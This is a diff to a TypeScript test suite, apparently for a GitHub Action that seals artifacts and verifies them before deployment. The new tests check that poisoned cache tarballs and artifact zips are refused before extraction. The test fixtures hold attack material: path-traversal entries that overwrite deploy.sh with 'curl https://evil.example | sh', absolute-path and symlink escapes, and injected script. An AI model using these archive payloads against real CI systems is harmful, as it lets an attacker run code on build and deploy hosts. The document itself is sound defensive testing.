@@ -8,6 +8,8 @@ import { type GitHubApiHost, startGitHubApiHost } from '../hosts/github-api-host
 import { type ResultsServiceHost, startResultsServiceHost } from '../hosts/results-service-host.js'
 import { runAction, runPost } from '../helpers/runner.js'
 import { removeAll, shellTreeDigest, tempDir, writeTree } from '../helpers/trees.js'
+import type { TarEntrySpec } from '../hosts/results/tar.js'
+import { readZip, writeZipEntries } from '../hosts/results/zip.js'
 
 const SEAL = 'dist/seal/index.js'
 const VERIFY = 'dist/verify/index.js'
@@ -50,8 +52,8 @@ function step(entry: string, runId: number, jobId: string, inputs: Record<string
   return runAction(entry, inputs, { env, ...(workspace ? { workspace } : {}) })
 }
 
-function promote(runId: number, inputs: Record<string, string>, temp = runnerTemp) {
-  return step(PROMOTE, runId, 'deploy', { ledger: `file:${ledgerFile}`, policy: policyFile, 'github-token': github.token, ...inputs }, undefined, temp)
+function promote(runId: number, inputs: Record<string, string>, temp = runnerTemp, workspace?: string) {
+  return step(PROMOTE, runId, 'deploy', { ledger: `file:${ledgerFile}`, policy: policyFile, 'github-token': github.token, ...inputs }, workspace, temp)
 }
 
 /** A deploy job that succeeds: the promote step, then its post step confirming the deployment. */
@@ -141,6 +143,21 @@ describe('sealed bytes carried between jobs and runs', () => {
     expect(shellTreeDigest(forward.outputs.path as string)).toBe(v2.digest)
   })
 
+  it('a single sealed file round trips through the cache: path is the file, in a private directory', async () => {
+    const runId = nextRun++
+    const workspace = writeTree(tempDir('workspace-'), { 'out/app.tgz': `archive ${runId}\n` })
+    const seal = await step(SEAL, runId, 'build', { 'subject-path': 'out/app.tgz', cache: 'true' }, workspace)
+    expect(seal.code).toBe(0)
+    const digest = seal.outputs.digest as Digest
+    const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': digest, cache: 'true' })
+    expect(deploy.code).toBe(0)
+    const handedOut = deploy.outputs.path as string
+    expect(path.basename(handedOut)).toBe('app.tgz')
+    expect(fs.readFileSync(handedOut, 'utf8')).toBe(`archive ${runId}\n`)
+    expect(path.relative(runnerTemp, handedOut).split(path.sep).slice(0, 2)).toEqual(['artifact-seal', 'downloads'])
+    expect(fs.statSync(path.dirname(path.dirname(handedOut))).mode & 0o777).toBe(0o700)
+  })
+
   describe('refused with a clear message, nothing left to deploy', () => {
     it('a tampered blob: the file is named and the download deleted', async () => {
       const build = await buildRun('<h1>tampered</h1>\n')
@@ -196,7 +213,8 @@ describe('sealed bytes carried between jobs and runs', () => {
       )
       const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': build.digest, cache: 'true' })
       expect(deploy.code).toBe(1)
-      expect(deploy.stdout).toMatch(/could not be fetched and checked: cache: the cache entry artifact-seal-files-sha256-[0-9a-f]{64} restored files that are sha256:[0-9a-f]{64}, not /)
+      expect(deploy.stdout).toMatch(/could not be fetched and checked: cache: the cache entry artifact-seal-files-sha256-[0-9a-f]{64} was refused before anything was extracted/)
+      expect(deploy.stdout).toMatch(/"[^"]*\/files\/index\.html": its content is not what the sealed listing says/)
       expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
     })
 
@@ -207,7 +225,7 @@ describe('sealed bytes carried between jobs and runs', () => {
         file.endsWith('index.html') ? Buffer.concat([content, Buffer.from('<script>evil()</script>')]) : undefined
       )
       const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': build.digest, cache: 'true' })
-      expect(deploy.stdout).toContain(`the files restored from artifact-seal-files-sha256-${build.digest.slice(7)} do not verify and were deleted; downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`)
+      expect(deploy.stdout).toContain(`the cache entry artifact-seal-files-sha256-${build.digest.slice(7)} was refused before anything was extracted; downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`)
       expect(deploy.code).toBe(0)
       expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
     })
@@ -239,6 +257,124 @@ describe('sealed bytes carried between jobs and runs', () => {
       })
       expect(denied.code).toBe(1)
       expect(denied.stdout).toMatch(/could not be fetched and checked: github-token: .*actions: read/)
+    })
+  })
+
+  describe('a poisoned carrier: nothing from it is written before it is verified', () => {
+    const DEPLOY_SH = '#!/bin/sh\necho deploying "$1"\n'
+
+    /** The deploy job's checkout: its deploy.sh is what a poisoned archive aims at. */
+    function deployWorkspace(): string {
+      return writeTree(tempDir('workspace-'), { 'deploy.sh': DEPLOY_SH })
+    }
+
+    /** Every file under a directory, by absolute path. */
+    function filesUnder(dir: string): string[] {
+      return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((e) => !e.isDirectory()).map((e) => path.join(e.parentPath, e.name))
+    }
+
+    /**
+     * The sealed files' directory inside the archive, as the archive names it (relative to
+     * the workspace that saved it), found from a file every build of SITE has.
+     */
+    function sealedRootIn(entries: readonly TarEntrySpec[]): string {
+      const css = entries.find((e) => e.name.endsWith('/assets/app.js'))
+      if (!css) throw new Error(`no assets/app.js among ${entries.map((e) => e.name).join(', ')}`)
+      return css.name.slice(0, -'/assets/app.js'.length)
+    }
+
+    /** Adds to the archive what an attacker with write access to the cache adds. */
+    async function poisonCache(digest: Digest, workspace: string, outside: string): Promise<void> {
+      await results.replaceCacheBlob(`artifact-seal-files-sha256-${digest.slice(7)}`, (entries) => {
+        const root = sealedRootIn(entries)
+        return [
+          ...entries,
+          // tar runs with -P in the workspace: `..` climbs out of it, into the deploy job's checkout.
+          { name: `../${path.basename(workspace)}/deploy.sh`, content: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), mode: 0o755 },
+          { name: path.join(outside, 'pwned'), content: Buffer.from('written at an absolute path\n') },
+          { name: `${root}/assets/escape`, type: 'symlink', linkTarget: outside },
+          { name: `${root}/assets/extra.js`, content: Buffer.from('steal()\n') }
+        ]
+      })
+    }
+
+    it('a cache entry with `..`, an absolute path, a link out and an unlisted file: refused before extraction, the artifact the ledger names deployed instead', async () => {
+      const build = await buildRun('<h1>poisoned cache, artifact whole</h1>\n')
+      expect((await promote(build.runId, { environment: 'dev', 'expected-digest': build.digest, 'artifact-name': 'shop-sealed' })).code).toBe(0)
+      const workspace = deployWorkspace()
+      const outside = tempDir('outside-')
+      await poisonCache(build.digest, workspace, outside)
+      const before = new Set(filesUnder(runnerTemp))
+
+      const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': build.digest, cache: 'true' }, runnerTemp, workspace)
+      expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
+      expect(fs.readdirSync(outside)).toEqual([])
+      expect(deploy.stdout).toMatch(/cache: refused the cache entry artifact-seal-files-sha256-[0-9a-f]{64} before extracting anything/)
+      expect(deploy.stdout).toContain(`"../${path.basename(workspace)}/deploy.sh": a ".." segment`)
+      expect(deploy.stdout).toContain(`"${path.join(outside, 'pwned')}": an absolute path`)
+      expect(deploy.stdout).toMatch(/"[^"]*\/assets\/escape": a symbolic link/)
+      expect(deploy.stdout).toMatch(/"[^"]*\/assets\/extra\.js": not in the sealed listing/)
+      expect(deploy.stdout).toContain(`downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`)
+      expect(deploy.code).toBe(0)
+      expect(deploy.outputs.promoted).toBe('true')
+      expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
+      // Nothing of the archive is left: what is new under the runner's temp directory is the downloaded artifact (its bundle and the files handed out).
+      const artifactDir = path.dirname(deploy.outputs.path as string)
+      const added = filesUnder(runnerTemp).filter((f) => !before.has(f) && !f.includes(`${path.sep}_runner_file_commands${path.sep}`))
+      expect(added.filter((f) => !f.startsWith(`${artifactDir}${path.sep}`))).toEqual([])
+      expect(added.filter((f) => !f.startsWith(`${deploy.outputs.path}${path.sep}`)).map((f) => path.relative(artifactDir, f)).sort()).toEqual(['seal/shop.intoto.json', 'seal/shop.sha256'])
+    })
+
+    it('the same entry with no artifact to fall back to: refused, nothing promoted, nothing left', async () => {
+      const build = await buildRun('<h1>poisoned cache, no artifact</h1>\n')
+      const workspace = deployWorkspace()
+      const outside = tempDir('outside-')
+      await poisonCache(build.digest, workspace, outside)
+      const before = new Set(filesUnder(runnerTemp))
+
+      const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': build.digest, cache: 'true' }, runnerTemp, workspace)
+      expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
+      expect(fs.readdirSync(outside)).toEqual([])
+      expect(deploy.code).toBe(1)
+      expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
+      expect(deploy.stdout).toMatch(/could not be fetched and checked: cache: the cache entry artifact-seal-files-sha256-[0-9a-f]{64} was refused before anything was extracted/)
+      expect(filesUnder(runnerTemp).filter((f) => !before.has(f) && !f.includes(`${path.sep}_runner_file_commands${path.sep}`))).toEqual([])
+    })
+
+    it('a workflow artifact whose zip holds `../`, an absolute name or a link: refused before extraction, by promote and verify', async () => {
+      const build = await buildRun('<h1>poisoned zip</h1>\n')
+      const hosted = results.artifacts().find((a) => a.runId === build.runId)
+      const honest = [...readZip(await results.artifactZip(hosted?.id as number))].map(([name, content]) => ({ name, content }))
+      const attacks: [string, { name: string; content?: Buffer; mode?: number }, RegExp][] = [
+        ['`../`', { name: '../deploy.sh', content: Buffer.from('curl https://evil.example | sh\n') }, /"\.\.\/deploy\.sh": a "\.\." segment/],
+        ['an absolute name', { name: '/tmp/pwned-by-zip', content: Buffer.from('x\n') }, /"\/tmp\/pwned-by-zip": an absolute path/],
+        ['a link', { name: 'files/assets/escape', content: Buffer.from('/etc'), mode: 0o120777 }, /"files\/assets\/escape": a symbolic link/]
+      ]
+      for (const [what, attack, named] of attacks) {
+        // Deleted and uploaded again under its name: the digest recorded at upload is the new zip's.
+        await results.replaceArtifactZip(hosted?.id as number, writeZipEntries([...honest, attack]), { recordDigest: true })
+        const workspace = deployWorkspace()
+        const temp = tempDir('runner-temp-')
+        const deploy = await promote(build.runId, { environment: 'dev', 'expected-digest': build.digest, 'artifact-name': 'shop-sealed' }, temp, workspace)
+        expect([what, deploy.code]).toEqual([what, 1])
+        expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
+        expect(deploy.stdout).toMatch(/could not be fetched and checked: artifact-name: refused the artifact "shop-sealed" \(id \d+ in this workflow run\) before extracting anything/)
+        expect(deploy.stdout).toMatch(named)
+        expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
+        expect(fs.existsSync('/tmp/pwned-by-zip')).toBe(false)
+        expect(filesUnder(temp).filter((f) => !f.includes(`${path.sep}_runner_file_commands${path.sep}`))).toEqual([])
+
+        const verify = await step(VERIFY, build.runId, 'check', { 'artifact-name': 'shop-sealed', 'expected-digest': build.digest }, workspace, temp)
+        expect(verify.code).toBe(1)
+        expect(verify.outputs).toEqual({})
+        expect(verify.stdout).toMatch(named)
+        expect(filesUnder(temp).filter((f) => !f.includes(`${path.sep}_runner_file_commands${path.sep}`))).toEqual([])
+      }
+      // The honest zip again: it downloads, verifies and deploys as before.
+      await results.replaceArtifactZip(hosted?.id as number, writeZipEntries(honest), { recordDigest: true })
+      const deploy = await promote(build.runId, { environment: 'dev', 'expected-digest': build.digest, 'artifact-name': 'shop-sealed' })
+      expect(deploy.code).toBe(0)
+      expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
     })
   })
 
